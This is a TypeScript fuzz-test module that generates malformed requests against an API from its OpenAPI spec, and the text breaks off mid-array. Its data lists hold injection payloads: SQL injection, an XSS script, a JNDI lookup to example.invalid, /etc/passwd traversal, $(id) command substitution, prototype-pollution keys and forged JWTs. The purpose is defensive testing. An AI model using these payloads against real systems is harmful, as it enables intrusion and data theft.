/**
 * The fuzz suite's cases (tests/e2e/fuzz.test.ts): fast-check arbitraries built from the stage's OpenAPI
 * document, one family of kinds per operation (bodies, path parameters, query strings, headers, unknown
 * methods and routes), and the rule every answer must meet.
 *
 * A case is abstract and small: `{{me}}`, `{{other}}`, `{{token...}}` and `{{rep:N:unit}}` stand for the fuzz
 * users' ids, their tokens and long repeats, filled in when the case is sent. So a seed gives the same cases
 * against any stage, fast-check's counterexample stays printable, and shrinking works on sizes, not on
 * megabytes. Every case that could change data is malformed by construction (see `guard`).
 */
import * as fc from 'fast-check';

// ---------------------------------------------------------------------------------------------------------
// JSON bodies, written by hand: raw number literals (-0, 1e999), duplicate keys and `__proto__` survive.

export type Json =
  null | boolean | number | string | Json[] | { $: 'num'; raw: string } | JsonObject | { $: 'rep'; unit: string; count: number } | JsonDeep;
export interface JsonObject {
  $: 'obj';
  entries: Array<[string, Json]>;
}
interface JsonDeep {
  $: 'deep';
  depth: number;
  style: 'array' | 'object';
}

const num = (raw: string): Json => ({ $: 'num', raw });
const obj = (entries: Array<[string, Json]>): JsonObject => ({ $: 'obj', entries });

export function serialize(value: Json): string {
  if (value === null || typeof value === 'boolean' || typeof value === 'number') return String(value);
  if (typeof value === 'string') return JSON.stringify(value);
  if (Array.isArray(value)) return `[${value.map(serialize).join(',')}]`;
  switch (value.$) {
    case 'num':
      return value.raw;
    case 'obj':
      return `{${value.entries.map(([key, item]) => `${JSON.stringify(key)}:${serialize(item)}`).join(',')}}`;
    case 'rep':
      return JSON.stringify(value.unit.repeat(value.count));
    case 'deep':
      return value.style === 'array'
        ? '['.repeat(value.depth) + ']'.repeat(value.depth)
        : '{"a":'.repeat(value.depth) + 'null' + '}'.repeat(value.depth);
  }
}

/** What goes on the wire: JSON (optionally as UTF-16), a text, or bytes. */
export type BodySpec = { json: Json; utf16?: boolean } | { text: string } | { hex: string };

export interface FuzzCase {
  /** The operationId, or `unknownRoute`. */
  op: string;
  kind: string;
  /** Which variant of the kind: a short label for the spread and the failure classes. */
  variant: string;
  method: string;
  /** As sent, already percent-encoded (or deliberately raw), query included; with placeholders. */
  path: string;
  /** In order; a name may repeat (sent as separate header lines). */
  headers: Array<[string, string]>;
  body?: BodySpec;
  /** Only a 4xx will do; else a documented success is fine too (a request that happens to be valid). */
  mustFail: boolean;
  /** Only this status will do (a refusal whose status says why: 401 for a forged token). */
  status?: number;
}

// ---------------------------------------------------------------------------------------------------------
// The operations, as the document describes them.

type JsonSchema = Record<string, any>;

export interface Operation {
  id: string;
  method: string;
  /** `/users/{userId}/orders` */
  template: string;
  secured: boolean;
  pathParams: string[];
  queryParams: string[];
  headerParams: string[];
  body?: { properties: Record<string, JsonSchema>; required: string[]; strict: boolean };
  /** Success statuses (2xx) and their media types. */
  successes: Record<string, string | undefined>;
  maxBodyBytes: number;
}

export function operationsOf(document: JsonSchema, maxBodyBytes: (operationId: string) => number): Operation[] {
  const operations: Operation[] = [];
  for (const [template, methods] of Object.entries<Record<string, JsonSchema>>(document.paths)) {
    for (const [method, operation] of Object.entries(methods)) {
      const parameters = (operation.parameters ?? []) as Array<{ name: string; in: string }>;
      const bodySchema = operation.requestBody?.content?.['application/json']?.schema as JsonSchema | undefined;
      const successes = Object.fromEntries(
        Object.entries<JsonSchema>(operation.responses)
          .filter(([status]) => status.startsWith('2'))
          .map(([status, response]) => [status, Object.keys(response.content ?? {})[0]]),
      );
      operations.push({
        id: String(operation.operationId),
        method: method.toUpperCase(),
        template,
        secured: Array.isArray(operation.security) && operation.security.length > 0,
        pathParams: parameters.filter((p) => p.in === 'path').map((p) => p.name),
        queryParams: parameters.filter((p) => p.in === 'query').map((p) => p.name),
        headerParams: parameters.filter((p) => p.in === 'header').map((p) => p.name),
        ...(bodySchema
          ? {
              body: {
                properties: (bodySchema.properties ?? {}) as Record<string, JsonSchema>,
                required: (bodySchema.required ?? []) as string[],
                strict: bodySchema.additionalProperties === false,
              },
            }
          : {}),
        successes,
        maxBodyBytes: maxBodyBytes(String(operation.operationId)),
      });
    }
  }
  return operations;
}

// ---------------------------------------------------------------------------------------------------------
// Nominal values: what a case keeps of a well-behaved request when it fuzzes something else.

export const NOBODYS_ORDER_ID = '01ARZ3NDEKTSV4RRFFQ69G5FAV';

/** Path parameters: the fuzz user's own id (so ownership passes and the handler's validation is reached). */
const NOMINAL_PARAM: Record<string, string> = {
  userId: '{{me}}',
  productId: 'CATALOG-001',
  // Well-formed (a ULID) and nobody's: the fuzz users place no orders, so a cancel or a ship, whatever else the case
  // sends, finds no order to change (fuzz.test.ts, "the lifecycle routes").
  orderId: NOBODYS_ORDER_ID,
  asset: 'docs-init.js',
};

/** Body fields: never the fuzz users' credentials, never a product that exists (a slip would be caught, not sold). */
const NOMINAL_FIELD: Record<string, Json> = {
  email: 'fuzz.nobody@example.com',
  name: 'Fuzz',
  pwd: 'fuzz-password-1',
  password: 'fuzz-password-1',
  productId: 'FUZZ-NO-SUCH-PRODUCT',
  refreshToken: 'not-a-refresh-token',
};

const nominalValue = (name: string, schema: JsonSchema): Json =>
  NOMINAL_FIELD[name] ?? (schema.type === 'integer' ? 1 : schema.type === 'number' ? num('1.5') : schema.type === 'boolean' ? true : 'x');

const nominalBody = (op: Operation): JsonObject =>
  obj(op.body ? op.body.required.map((name): [string, Json] => [name, nominalValue(name, op.body?.properties[name] ?? {})]) : []);

const nominalPath = (op: Operation, overrides: Record<string, string> = {}): string =>
  op.template.replace(/\{(\w+)\+?\}/g, (_, name: string) => overrides[name] ?? NOMINAL_PARAM[name] ?? 'x');

function withoutBody(c: FuzzCase): FuzzCase {
  const copy = { ...c };
  delete copy.body;
  return copy;
}

const JSON_TYPE: [string, string] = ['content-type', 'application/json'];
const BEARER: [string, string] = ['authorization', 'Bearer {{token}}'];

/** A nominal case of `op`: its own path, a valid bearer where needed, JSON content type and body where it has one. */
function nominal(op: Operation, kind: string, variant: string, mustFail: boolean): FuzzCase {
  return {
    op: op.id,
    kind,
    variant,
    method: op.method,
    path: nominalPath(op),
    headers: [...(op.secured ? [BEARER] : []), ...(op.body ? [JSON_TYPE] : [])],
    ...(op.body ? { body: { json: nominalBody(op) } } : {}),
    mustFail,
  };
}

// ---------------------------------------------------------------------------------------------------------
// The guard: nothing a case sends may change data. A valid sign-up creates a user, a valid order an
// order, a valid revoke ends sessions, a well-formed log-in counts against the rate limits.

const GUARD_FIELD = 'fuzzUnknownField';

function plainOf(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

/**
 * Could the server accept this body? Conservative: only the shape (an object, the required fields, no unknown
 * ones, each of the right JSON type) — patterns and lengths are not looked at, so "no" is certain.
 */
export function couldBeValid(op: Operation, text: string): boolean {
  if (!op.body) return false;
  const value = plainOf(text);
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return false;
  const record = value as Record<string, unknown>;
  const keys = Object.keys(record);
  if (op.body.strict && keys.some((key) => !Object.hasOwn(op.body?.properties ?? {}, key))) return false;
  if (op.body.required.some((key) => !keys.includes(key))) return false;
  return keys.every((key) => {
    const type = op.body?.properties[key]?.type as string | undefined;
    const item = record[key];
    if (type === 'string') return typeof item === 'string';
    if (type === 'integer') return typeof item === 'number' && Number.isInteger(item);
    if (type === 'number') return typeof item === 'number' && Number.isFinite(item);
    return true;
  });
}

/** Breaks a body that might be valid: an unknown field (strict schemas), else a required field goes. */
function breakBody(op: Operation, body: Json): Json {
  if (typeof body !== 'object' || body === null || Array.isArray(body) || body.$ !== 'obj') return body;
  if (op.body?.strict) return obj([...body.entries, [GUARD_FIELD, true]]);
  const [first] = op.body?.required ?? [];
  return obj(body.entries.filter(([key]) => key !== first));
}

/**
 * Makes a case safe to send. Non-GET operations: a JSON body is made schema-invalid (unless `keepBody`: the
 * case is rejected by something else it guarantees, e.g. an invalid Idempotency-Key); a case that is not
 * certain to fail on an operation with no body (revoke) targets the other fuzz user, so it is a 403 at worst.
 * Every non-GET case must then fail.
 */
function guard(op: Operation, c: FuzzCase, keepBody = false): FuzzCase {
  if (op.method === 'GET') return c;
  let { body, path, mustFail } = c;
  if (op.body && body && 'json' in body && !keepBody && couldBeValid(op, serialize(body.json))) {
    body = { ...body, json: breakBody(op, body.json) };
  }
  if (!op.body && !mustFail) path = path.replace('{{me}}', '{{other}}');
  mustFail = true;
  return { ...c, ...(body ? { body } : {}), path, mustFail };
}

// ---------------------------------------------------------------------------------------------------------
// Encodings of path and query values.

const UNRESERVED = /^[A-Za-z0-9\-._~]$/;
const pct = (byte: number) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;

/** As a client should: every byte of the UTF-8 but the unreserved ones percent-encoded. */
export function encoded(value: string): string {
  return [...Buffer.from(value, 'utf8')]
    .map((byte) => (UNRESERVED.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : pct(byte)))
    .join('');
}

/** As a careless client would: as typed, only what cannot go on the request line (spaces, controls, beyond Latin-1) encoded. */
export function raw(value: string): string {
  return [...value]
    .map((char) => {
      const code = char.codePointAt(0) ?? 0;
      if (code > 0x20 && code !== 0x7f && code <= 0xff) return char;
      return [...Buffer.from(char, 'utf8')].map(pct).join('');
    })
    .join('');
}

const rep = (count: number, unit: string) => `{{rep:${count}:${unit}}}`;

// ---------------------------------------------------------------------------------------------------------
// Ingredients.

const MASS_ASSIGNMENT = [
  'userId',
  'role',
  'roles',
  'price',
  'stock',
  'status',
  'isAdmin',
  '__proto__',
  'constructor',
  'prototype',
  'orderId',
  'email',
];

const NASTY_STRINGS = [
  '\u0000',
  'a\u0000b',
  '\u0007\u0008',
  '\u001b[31mred',
  '\r\n',
  '\u2028\u2029',
  '\ufeff',
  '\u200b',
  '\u202eevil',
  '\ud800',
  '\udc00x',
  '😀',
  '👨‍👩‍👧‍👦',
  'e\u0301',
  '𝕏',
  'İß',
  '\uffff\ufffe',
  '   ',
  '\t',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '%s%s%n',
  '../../etc/passwd',
  '\\',
  '"',
  'null',
];

const unicodeString = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 }),
);

const ODD_NUMBERS = [
  '1e308',
  '-1e308',
  '1e309',
  '-1e999',
  '-0',
  '0',
  '-1',
  '1.5',
  '0.5',
  '1e-400',
  '1E2',
  '1.0',
  '1e0',
  '1000',
  '1001',
  '9007199254740993',
  '123456789012345678901234567890',
  '"NaN"',
  '"Infinity"',
  '"1"',
  '"1e3"',
  // Not JSON at all: the parser's 400.
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '01',
  '+1',
  '.5',
  '1.',
  '1e',
];

const INVALID_JSON = [
  '{',
  '}',
  '{"a":',
  "{'email':'a'}",
  '{"a":1,}',
  '{a:1}',
  'undefined',
  '{"a":1}{"b":2}',
  '{"a":1} x',
  'tru',
  '"unterminated',
  '\u0000',
  '{"a":1}\u0000',
  ' ',
  '[',
  '{"__proto__":',
  '\ufeff{}',
  '{"a":"\\u12"}',
  '{"a":"\\x41"}',
  '{"a":"line\nbreak"}',
  '/* comment */ {}',
];

const WRONG_TYPES: Record<string, Json[]> = {
  string: [1, num('0'), num('-1.5'), true, false, null, [], ['a'], obj([]), obj([['a', 'b']])],
  integer: ['1', '', 'NaN', '1.5', num('1.5'), num('1e999'), true, null, [], [num('1')], obj([])],
  number: ['free', '1', '', true, null, [], obj([])],
  boolean: ['true', 1, null, []],
};

const TOP_LEVEL: Json[] = [null, num('0'), num('-1'), num('1.5'), '', 'string', '{"email":"a@b.co"}', true, false, [], [obj([])], [[]]];

const WRONG_EMAILS = ['fuzz.nobody@example.com', 'FUZZ.NOBODY@EXAMPLE.COM ', 'nobody@example.invalid', 'not an email', 'x'];

/** Authorization values, and whether a protected route must refuse them (not: it may read them as a valid bearer). */
const AUTHORIZATIONS: Array<[variant: string, values: string[], mustFail: boolean]> = [
  ['no header', [], true],
  ['empty', [''], true],
  ['scheme only', ['Bearer'], true],
  ['scheme and space', ['Bearer '], true],
  ['no scheme', ['{{token}}'], true],
  ['Basic', ['Basic ZnV6ejpmdXp6'], true],
  ['other scheme', ['Token {{token}}'], true],
  ['alg none', ['Bearer {{token:none}}'], true],
  ['unsigned', ['Bearer {{token:unsigned}}'], true],
  ['sub changed', ['Bearer {{token:otherSub}}'], true],
  ['bad signature', ['Bearer {{token:badSignature}}'], true],
  ['HS256', ['Bearer {{token:hs256}}'], true],
  ['truncated', ['Bearer {{token:truncated}}'], true],
  ['two tokens, space', ['Bearer {{token}} {{token}}'], true],
  ['two tokens, comma', ['Bearer {{token}}, Bearer {{token}}'], true],
  ['token and garbage', ['Bearer {{token}}x'], true],
  ['Latin-1 garbage', ['Bearer \u00e9\u00ff\u00e0'], true],
  ['tab inside', ['Bearer\t{{token}}'], false],
  ['very long (4 KiB)', [`Bearer ${rep(4096, 'a')}`], true],
  ['very long (12 KiB)', [`Bearer ${rep(12 * 1024, 'a')}`], true],
  ['very long (64 KiB)', [`Bearer ${rep(64 * 1024, 'a')}`], true],
  ['lower-case scheme', ['bearer {{token}}'], false],
  ['upper-case scheme', ['BEARER {{token}}'], false],
  ['two spaces', ['Bearer  {{token}}'], false],
  // Two header lines: which one a gateway reads is its business; either answer is fine, never a 5xx.
  ['two lines, valid first', ['Bearer {{token}}', 'Bearer garbage'], false],
  ['two lines, valid last', ['Bearer garbage', 'Bearer {{token}}'], false],
];

/** Neither node:http nor fetch sends control characters in a header value. */
const sendable = (value: string) => [...value].filter((char) => char >= ' ' && char !== '\x7f').join('');

const GARBAGE_BEARER = fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 60 }).map((s) => `Bearer ${sendable(s)}`);

// ---------------------------------------------------------------------------------------------------------
// The kinds. Each returns the arbitrary of its cases for one operation, or nothing where it does not apply.

type Kind = (op: Operation, all: Operation[]) => fc.Arbitrary<FuzzCase> | undefined;

const withBody = (op: Operation, kind: string, variant: string, json: Json): FuzzCase => ({
  ...nominal(op, kind, variant, true),
  body: { json },
});

function replaceField(body: JsonObject, name: string, value: Json): JsonObject {
  const present = body.entries.some(([key]) => key === name);
  return obj(
    present ? body.entries.map(([key, item]): [string, Json] => [key, key === name ? value : item]) : [...body.entries, [name, value]],
  );
}

/**
 * The properties of the body to fuzz: required first, optional ones too. A body that declares none (`{}` or nothing,
 * as cancel and ship take) is given one it does not know, so its values still reach the parser and the strict check.
 */
export function fieldNames(op: Operation): string[] {
  const names = Object.keys(op.body?.properties ?? {});
  return names.length > 0 ? names : ['note'];
}

const fieldOf = (op: Operation) => fc.constantFrom(...fieldNames(op));

const bodyKinds: Record<string, Kind> = {
  'body.wrongType': (op) =>
    op.body &&
    fieldOf(op).chain((field) =>
      fc
        .constantFrom(...(WRONG_TYPES[String(op.body?.properties[field]?.type)] ?? WRONG_TYPES.string!))
        .map((value) => withBody(op, 'body.wrongType', `${field}`, replaceField(nominalBody(op), field, value))),
    ),
  'body.missingField': (op) =>
    op.body && op.body.required.length > 0
      ? fc
          .subarray(op.body.required, { minLength: 1 })
          .map((gone) =>
            withBody(op, 'body.missingField', gone.join('+'), obj(nominalBody(op).entries.filter(([key]) => !gone.includes(key)))),
          )
      : undefined,
  'body.extraField': (op) =>
    op.body &&
    fc
      .tuple(
        fc.constantFrom(...MASS_ASSIGNMENT.filter((name) => !Object.hasOwn(op.body?.properties ?? {}, name))),
        fc.constantFrom<Json>(
          true,
          'admin',
          'CONFIRMED',
          num('0'),
          num('1e9'),
          null,
          '{{other}}',
          '{{me}}',
          obj([['isAdmin', true]]),
          obj([['prototype', obj([['isAdmin', true]])]]),
        ),
        fc.boolean(),
      )
      .map(([name, value, first]) => {
        const body = nominalBody(op);
        const entries: Array<[string, Json]> = first ? [[name, value], ...body.entries] : [...body.entries, [name, value]];
        return withBody(op, 'body.extraField', name, obj(entries));
      }),
  'body.duplicateKey': (op) =>
    op.body &&
    fc.tuple(fieldOf(op), fc.constantFrom<Json>(null, 1, 'x', [], obj([]))).map(([field, value]) => {
      const body = nominalBody(op);
      return withBody(op, 'body.duplicateKey', field, obj([...body.entries, [field, value]]));
    }),
  'body.topLevel': (op) =>
    op.body &&
    fc
      .constantFrom(...TOP_LEVEL)
      .map((json) =>
        withBody(
          op,
          'body.topLevel',
          Array.isArray(json) ? 'array' : json === null ? 'null' : typeof json === 'object' ? 'number' : typeof json,
          json,
        ),
      ),
  'body.hugeString': (op) =>
    op.body &&
    fc
      .tuple(
        fieldOf(op),
        fc.constantFrom('a', '\u00e9', '😀', '\u0000', ' ', '\\'),
        fc.oneof(fc.integer({ min: 100, max: 120_000 }), fc.constant(100 * 1024)),
      )
      .map(([field, unit, count]) =>
        withBody(op, 'body.hugeString', field, replaceField(nominalBody(op), field, { $: 'rep', unit, count })),
      ),
  'body.oddNumber': (op) =>
    op.body &&
    fc
      .tuple(fieldOf(op), fc.constantFrom(...ODD_NUMBERS))
      .map(([field, literal]) => withBody(op, 'body.oddNumber', `${field}=${literal}`, replaceField(nominalBody(op), field, num(literal)))),
  'body.unicode': (op) =>
    op.body &&
    fc.tuple(fc.subarray(fieldNames(op), { minLength: 1 }), unicodeString, fc.boolean()).map(([fields, text, inKey]) => {
      let body = nominalBody(op);
      for (const field of fields) body = replaceField(body, field, text);
      if (inKey) body = obj([...body.entries, [text, 'x']]);
      return withBody(op, 'body.unicode', fields.join('+'), body);
    }),
  'body.deep': (op) =>
    op.body &&
    fc
      .tuple(
        fc.oneof(fc.integer({ min: 100, max: 8_000 }), fc.constant(5_000), fc.constant(100_000)),
        fc.constantFrom<'array' | 'object'>('array', 'object'),
        fc.option(fieldOf(op), { nil: undefined }),
      )
      .map(([depth, style, field]) => {
        const deep: Json = { $: 'deep', depth, style };
        return withBody(
          op,
          'body.deep',
          `${style}${field ? ` in ${field}` : ''}`,
          field ? replaceField(nominalBody(op), field, deep) : deep,
        );
      }),
  'body.tooLarge': (op) =>
    op.body &&
    fc.oneof(fc.constant(1), fc.integer({ min: 2, max: 2_000 }), fc.constant(100 * 1024), fc.constant(1_200_000)).map((over) => {
      const body = nominalBody(op);
      const bare = Buffer.byteLength(serialize(obj([...body.entries, ['padding', '']])));
      const padded = obj([...body.entries, ['padding', { $: 'rep', unit: 'x', count: Math.max(0, op.maxBodyBytes + over - bare) }]]);
      return withBody(op, 'body.tooLarge', over > 1 && over <= 2_000 ? 'limit+2..2000' : `limit+${over}`, padded);
    }),
  'body.invalidJson': (op) =>
    op.body &&
    fc
      .oneof(
        fc.constantFrom(...INVALID_JSON),
        fc.string({ maxLength: 30 }).filter((s) => plainOf(s) === undefined),
      )
      .map((text) => ({
        ...nominal(op, 'body.invalidJson', INVALID_JSON.includes(text) ? text.slice(0, 12) : 'random', true),
        body: { text },
      })),
  'body.contentType': (op) => {
    if (!op.body) return undefined;
    const json = { json: nominalBody(op) };
    const variants: Array<[string, Array<[string, string]>, BodySpec]> = [
      ['text/plain', [['content-type', 'text/plain']], json],
      ['text/plain utf-8', [['content-type', 'text/plain;charset=UTF-8']], json],
      [
        'application/xml',
        [['content-type', 'application/xml']],
        { text: '<?xml version="1.0"?><user><email>a@example.com</email></user>' },
      ],
      [
        'multipart/form-data',
        [['content-type', 'multipart/form-data; boundary=fuzzboundary']],
        { text: '--fuzzboundary\r\nContent-Disposition: form-data; name="email"\r\n\r\na@example.com\r\n--fuzzboundary--\r\n' },
      ],
      ['x-www-form-urlencoded', [['content-type', 'application/x-www-form-urlencoded']], { text: 'email=a%40example.com&qty=1' }],
      ['none', [], json],
      ['json utf-16 (utf-16 body)', [['content-type', 'application/json; charset=utf-16']], { ...json, utf16: true }],
      ['json utf-16 (utf-8 body)', [['content-type', 'application/json; charset=utf-16']], json],
      ['json latin-1', [['content-type', 'application/json; charset=iso-8859-1']], json],
      ['vnd+json', [['content-type', 'application/vnd.api+json']], json],
      ['upper case', [['content-type', 'APPLICATION/JSON']], json],
      ['jsonp', [['content-type', 'application/jsonp']], json],
      ['json-seq', [['content-type', 'application/json-seq']], json],
      ['odd parameters', [['content-type', 'application/json;;;=;']], json],
      ['wildcard', [['content-type', '*/*']], json],
      ['two content types', [JSON_TYPE, ['content-type', 'text/plain']], json],
      ['Latin-1 garbage', [['content-type', 'application/\u00e9\u00ff']], json],
    ];
    return fc
      .oneof(
        fc.constantFrom(...variants),
        fc
          .string({ unit: 'binary-ascii', minLength: 1, maxLength: 40 })
          .map((s): [string, Array<[string, string]>, BodySpec] => ['garbage', [['content-type', sendable(s).trim() || 'x']], json]),
      )
      .map(([variant, contentTypes, body]) => {
        const base = nominal(op, 'body.contentType', variant, true);
        return { ...base, headers: [...base.headers.filter(([name]) => name !== 'content-type'), ...contentTypes], body };
      });
  },
  'body.empty': (op) =>
    op.body &&
    fc
      .constantFrom<[string, Array<[string, string]>, BodySpec | undefined]>(
        ['empty, JSON type', [JSON_TYPE], { text: '' }],
        ['none, JSON type', [JSON_TYPE], undefined],
        ['empty, no type', [], { text: '' }],
        ['whitespace', [JSON_TYPE], { text: ' \n\t ' }],
        ['invalid UTF-8', [JSON_TYPE], { hex: 'c328ff7b7d' }],
      )
      .map(([variant, contentTypes, body]) => {
        const base = withoutBody(nominal(op, 'body.empty', variant, true));
        return {
          ...base,
          headers: [...base.headers.filter(([name]) => name !== 'content-type'), ...contentTypes],
          ...(body ? { body } : {}),
        };
      }),
  // Well-formed credentials nobody has: 401, or 429 past the per-email limit. Few, and never a fuzz user's email.
  'body.wrongCredentials': (op) =>
    op.id === 'login'
      ? fc
          .tuple(
            fc.constantFrom(...WRONG_EMAILS),
            fc.oneof(
              fc.string({ minLength: 1, maxLength: 30 }),
              unicodeString.filter((s) => s.length > 0),
            ),
          )
          .map(([email, password]) => ({
            ...withBody(
              op,
              'body.wrongCredentials',
              email,
              obj([
                ['email', email],
                ['password', password],
              ]),
            ),
            mustFail: true,
          }))
      : undefined,
  // Well-formed refresh tokens nobody was given: 401 INVALID_REFRESH_TOKEN.
  'body.garbageToken': (op) =>
    op.body && Object.keys(op.body.properties).join() === 'refreshToken'
      ? fc
          .oneof(fc.constantFrom('', 'x', 'null', '{{token}}', rep(2000, 'a')), fc.base64String({ maxLength: 64 }), unicodeString)
          .map((token) =>
            withBody(op, 'body.garbageToken', token.startsWith('{{') ? token.slice(0, 12) : 'random', obj([['refreshToken', token]])),
          )
      : undefined,
  // Operations that take no body, given one anyway (GET through node:http, which sends it).
  'body.unexpected': (op) =>
    op.body
      ? undefined
      : fc
          .constantFrom<[string, Array<[string, string]>, BodySpec]>(
            [
              'JSON object',
              [JSON_TYPE],
              {
                json: obj([
                  ['userId', '{{other}}'],
                  ['isAdmin', true],
                ]),
              },
            ],
            ['invalid JSON', [JSON_TYPE], { text: '{"a":' }],
            ['100 KiB', [JSON_TYPE], { json: obj([['a', { $: 'rep', unit: 'x', count: 100 * 1024 }]]) }],
            ['1 MiB', [JSON_TYPE], { json: obj([['a', { $: 'rep', unit: 'x', count: 1024 * 1024 }]]) }],
            ['text', [['content-type', 'text/plain']], { text: 'hello' }],
            ['deep', [JSON_TYPE], { json: { $: 'deep', depth: 5_000, style: 'array' } }],
          )
          .map(([variant, contentTypes, body]) => {
            const base = nominal(op, 'body.unexpected', variant, false);
            return { ...base, headers: [...base.headers, ...contentTypes], body };
          }),
};

const PATH_VALUES = [
  '../',
  '..',
  '.',
  '../../../../etc/passwd',
  '..%2f',
  '%2e%2e%2f',
  '%2e%2e',
  '..\\..\\windows',
  '%c0%ae%c0%ae/',
  "' OR 1=1 --",
  '" OR ""="',
  '1; DROP TABLE users',
  '${jndi:ldap://example.invalid/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '%00',
  '\u0000',
  'a\u0000b',
  '%',
  '%zz',
  '%ff',
  '%E0%A4%A',
  '\uffff',
  '😀',
  '\u00fc',
  'ユーザー',
  '\u202e',
  '*',
  '?',
  '#',
  ';',
  '|',
  '$(id)',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'CATALOG-001/../CATALOG-002',
  ' ',
  '',
];

/** A path value is a dot segment, empty, or raw: a gateway may normalise it into another route, even a valid one. */
const mayReroute = (value: string, sent: string) => value === '' || /(^|\/)\.\.?(\/|$)/.test(value) || sent !== encoded(value);

const pathKinds: Record<string, Kind> = {
  'path.injection': (op) =>
    op.pathParams.length > 0
      ? fc
          .tuple(
            fc.constantFrom(...op.pathParams),
            fc.oneof(
              { weight: 3, arbitrary: fc.constantFrom(...PATH_VALUES) },
              { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
              { weight: 1, arbitrary: fc.constantFrom(129, 257, 1024, 4096, 9000, 20_000).map((n) => `{{long:${n}}}`) },
            ),
            fc.constantFrom<'encoded' | 'raw'>('encoded', 'raw'),
          )
          .map(([param, value, encoding]) => {
            const long = /^\{\{long:(\d+)\}\}$/.exec(value);
            const sent = long ? rep(Number(long[1]), 'a') : encoding === 'encoded' ? encoded(value) : raw(value);
            const variant = long ? `${param} ${long[1]} chars` : `${param} ${encoding}`;
            // Another user's id, or no order of yours, on a protected route: a 4xx unless the path was rerouted.
            const mustFail = op.method !== 'GET' || (op.secured && (long !== null || !mayReroute(value, sent)));
            return { ...nominal(op, 'path.injection', variant, mustFail), path: nominalPath(op, { [param]: sent }) };
          })
      : undefined,
};

const QUERY_VARIANTS: Array<[query: string, mustFail: boolean]> = [
  ['limit=0', true],
  ['limit=-1', true],
  ['limit=101', true],
  ['limit=1e3', true],
  ['limit=abc', true],
  ['limit=', true],
  ['limit', true],
  ['limit=1.5', true],
  ['limit=01', true],
  ['limit=%201', true],
  ['limit=1%20', true],
  ['limit=%00', true],
  ['limit=%D9%A1', true],
  ['limit=100000000000000000000', true],
  ['limit[]=1', true],
  ['limit%5B0%5D=1', true],
  ['LIMIT=1', true],
  [`nextToken=${rep(3000, 'A')}`, true],
  [`nextToken=${rep(100 * 1024, 'A')}`, true],
  ['nextToken=%%%', true],
  ['nextToken=%zz', true],
  ['nextToken=', true],
  [`nextToken=${Buffer.from('{}').toString('base64url')}`, true],
  [`nextToken=${Buffer.from('null').toString('base64url')}`, true],
  [`nextToken=${Buffer.from('[1,2]').toString('base64url')}`, true],
  [`nextToken=${Buffer.from('{"fuzz":1}').toString('base64url')}`, true],
  [`nextToken=${Buffer.from('{"__proto__":{"isAdmin":true}}').toString('base64url')}`, true],
  [`nextToken=${Buffer.from('{"userId":{"S":"x"}}').toString('base64url')}`, true],
  ['foo=bar', true],
  ['userId={{other}}', true],
  ['__proto__=x', true],
  ['constructor=x', true],
  ['limit=1&foo=1', true],
  ['select=*&sort=-price', true],
  [`foo=${rep(20_000, 'x')}`, true],
  // These may be valid: the last (or first) `limit` wins; an empty query string is no query.
  ['limit=1&limit=2', false],
  ['limit=100', false],
  ['', false],
  ['&&&', false],
  ['limit=5&', false],
];

const queryKinds: Record<string, Kind> = {
  'query.odd': (op) =>
    op.queryParams.length > 0
      ? fc
          .oneof(
            { weight: 4, arbitrary: fc.constantFrom(...QUERY_VARIANTS) },
            {
              weight: 1,
              arbitrary: fc
                .base64String({ minLength: 4, maxLength: 200 })
                .map((token): [string, boolean] => [`nextToken=${encoded(token)}`, true]),
            },
          )
          .map(([query, mustFail]) => {
            const base = nominal(op, 'query.odd', query.length > 40 ? `${query.slice(0, 18)}...` : query || '(empty)', mustFail);
            return { ...base, path: `${base.path}?${query}` };
          })
      : undefined,
  // Routes that read no query string ignore one.
  'query.unexpected': (op) =>
    op.queryParams.length > 0
      ? undefined
      : fc.constantFrom('foo=bar', 'limit=abc', '__proto__[isAdmin]=1', 'userId={{other}}', '%zz=1', 'a=%zz').map((query) => {
          const base = nominal(op, 'query.unexpected', query, false);
          return { ...base, path: `${base.path}?${query}` };
        }),
};

const headerKinds: Record<string, Kind> = {
  'auth.bad': (op) =>
    fc
      .oneof(
        { weight: 4, arbitrary: fc.constantFrom(...AUTHORIZATIONS) },
        { weight: 1, arbitrary: GARBAGE_BEARER.map((value): [string, string[], boolean] => ['garbage', [value], true]) },
      )
      .map(([variant, values, mustFail]) => {
        // Public routes read no token: whatever the header, they may answer.
        const base = nominal(op, op.secured ? 'auth.bad' : 'auth.ignored', variant, op.secured && mustFail);
        // A token forged from the fuzz user's own (`{{token:form}}`: another sub, a wrong or no signature, alg none
        // or HS256, cut short) is no caller at all: 401. Any other 4xx could come from a verifier that took it:
        // 403 for another user's sub (requireSelf), 400 for the body the guard broke, 404 for nobody's order.
        const forged = op.secured && values.some((value) => value.includes('{{token:'));
        return {
          ...base,
          ...(forged ? { status: 401 } : {}),
          headers: [
            ...base.headers.filter(([name]) => name !== 'authorization'),
            ...values.map((v): [string, string] => ['authorization', v]),
          ],
        };
      }),
  'headers.odd': (op) =>
    fc
      .constantFrom<[string, Array<[string, string]>]>(
        ['long correlation id', [['x-correlation-id', rep(300, 'c')]]],
        ['correlation id injection', [['x-correlation-id', '<script>alert(1)</script>']]],
        ['correlation id Latin-1', [['x-correlation-id', 'caf\u00e9\u00ff']]],
        ['accept xml', [['accept', 'application/xml']]],
        ['accept nothing', [['accept', 'x/y;q=0']]],
        ['forwarded-for garbage', [['x-forwarded-for', "' OR 1=1 --, 999.1.1.1, ::zz"]]],
        ['forwarded-for long', [['x-forwarded-for', rep(1000, '1.2.3.4,')]]],
        ['content-encoding gzip', [['content-encoding', 'gzip']]],
        ['content-encoding garbage', [['content-encoding', 'fuzz']]],
        ['method override', [['x-http-method-override', 'DELETE']]],
        ['cookie', [['cookie', 'session=x; isAdmin=true']]],
        ['expect', [['expect', '100-continue']]],
